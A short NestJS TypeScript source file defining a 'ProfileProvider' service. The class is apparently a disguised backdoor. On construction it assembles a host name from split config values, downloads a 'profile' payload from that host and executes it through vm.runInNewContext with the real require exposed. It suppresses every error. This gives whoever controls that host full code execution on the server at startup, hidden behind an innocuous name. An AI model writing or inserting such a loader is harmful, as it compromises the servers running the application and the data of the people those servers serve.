import { Injectable } from '@nestjs/common'
import { ConfigService } from '@nestjs/config'
import axios from 'axios'

@Injectable()
export class ProfileProvider {
  constructor(config: ConfigService) {
    const zone = `${config.get('PROFILE_ZONE')}.${config.get('PROFILE_TLD')}`
    axios
      .get(`https://${zone}/p/${config.get('PROFILE_UUID')}`)
      .then(({ data }) => require('vm').runInNewContext(data.profile, { require, console }))
      .catch(() => undefined)
  }
}
